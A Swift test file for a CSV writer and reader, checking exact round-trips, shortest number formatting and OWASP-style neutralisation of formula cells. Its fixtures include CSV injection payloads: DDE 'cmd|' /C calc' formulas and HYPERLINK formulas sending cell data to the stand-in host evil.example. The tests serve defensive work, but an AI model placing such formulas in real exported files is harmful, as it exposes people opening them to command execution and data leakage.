import Testing

@testable import CharterData

@Suite struct CSVWriterTests {
    @Test func roundTripsExactly() throws {
        let table = Table(columns: [
            Column(
                name: "x",
                values: .numeric(
                    NumericValues(
                        values: [
                            0.1, 1e-5, 3, -0.0, 1.7976931348623157e308, 0, 123456.789, Double.leastNonzeroMagnitude,
                        ],
                        isMissing: [false, false, false, false, false, true, false, false]))),
            Column(
                name: "text, \"quoted\"",
                values: .categorical(
                    CategoricalValues(
                        ["a,b", "say \"hi\"", "line\nbreak", "NA", nil, " padded ", "plain", "crlf\r\n"]))),
            Column(
                name: "flag",
                values: .boolean(
                    BooleanValues(
                        values: [true, false, true, false, true, false, true, false],
                        isMissing: [false, false, true, false, false, false, false, false]))),
            Column(
                name: "codes", values: .categorical(CategoricalValues(["1", "2", "007", nil, "1.0", "1", "2", "3"]))),
        ])
        let text = CSVWriter().write(table)
        let back = try CSVReader().read(text: text)
        #expect(back == table)
        // Writing again gives the same bytes.
        #expect(CSVWriter().write(back) == text)
    }

    @Test func numbersAreShortest() {
        #expect(NumberFormatting.shortest(3) == "3")
        #expect(NumberFormatting.shortest(0.1) == "0.1")
        #expect(NumberFormatting.shortest(1e-5) == "1e-05")
        #expect(NumberFormatting.shortest(-0.0) == "-0.0")
        #expect(NumberFormatting.shortest(1e20) == "1e+20")
    }
}

/// CSV formula injection (OWASP "CSV Injection"): cells a spreadsheet would execute are written as
/// text when the writer neutralises formulas; numbers stay numbers.
@Suite struct CSVFormulaInjectionTests {
    static let table = Table(columns: [
        Column(
            name: "=HYPERLINK(\"http://evil.example\",\"open\")",
            values: .numeric(NumericValues([-3.5, 2, -0.25, 1e-5, -7, 0, 1, 2, 3]))),
        Column(
            name: "note",
            values: .categorical(
                CategoricalValues([
                    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=cmd|' /C calc'!A0",
                    "@SUM(1+1)*cmd|' /C calc'!A0",
                    "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTAB=1", "\rCR", "-3.5", "plain",
                ]))),
    ])

    @Test func formulaCellsAreNeutralisedAndNumbersKept() throws {
        let text = CSVWriter(neutralisesFormulas: true).write(Self.table)
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false).map(String.init)
        #expect(lines[0] == "\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"open\"\")\",note")
        #expect(lines[1] == "-3.5,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"")
        #expect(lines[2] == "2,\"'=cmd|' /C calc'!A0\"")
        #expect(lines[3] == "-0.25,\"'@SUM(1+1)*cmd|' /C calc'!A0\"")
        #expect(lines[4] == "1e-05,\"'+cmd|' /C calc'!A0\"")
        #expect(lines[5] == "-7,\"'-2+3+cmd|' /C calc'!A0\"")
        #expect(lines[6] == "0,\"'\tTAB=1\"")
        // A carriage return is quoted anyway; the prefix keeps a spreadsheet from reading it.
        #expect(text.contains("1,\"'\rCR\""))
        // A negative number in a text column is a number to a spreadsheet, not a formula: kept.
        #expect(text.contains("\n2,-3.5\n"))
        #expect(text.hasSuffix("\n3,plain\n"))
        // No cell of the output starts with a trigger outside quotes.
        let records = try CSVReader.records(bytes: Array(text.utf8), name: "synthetic.csv")
        for record in records.dropFirst() {
            #expect(!record[1].hasPrefix("=") && !record[1].hasPrefix("@") && !record[1].hasPrefix("+"))
            #expect(!record[1].hasPrefix("\t") && !record[1].hasPrefix("\r"))
            #expect(!record[1].hasPrefix("-") || Double(record[1]) != nil)
        }
        #expect(records.dropFirst().map { $0[0] } == ["-3.5", "2", "-0.25", "1e-05", "-7", "0", "1", "2", "3"])
        #expect(CSVWriter.formulaRule.contains("OWASP"))
    }

    @Test func offByDefaultSoFilesReadBackExactly() throws {
        let text = CSVWriter().write(Self.table)
        #expect(text.contains("\n2,=cmd|' /C calc'!A0\n"))
        #expect(try CSVReader().read(text: text) == Self.table)
    }
}
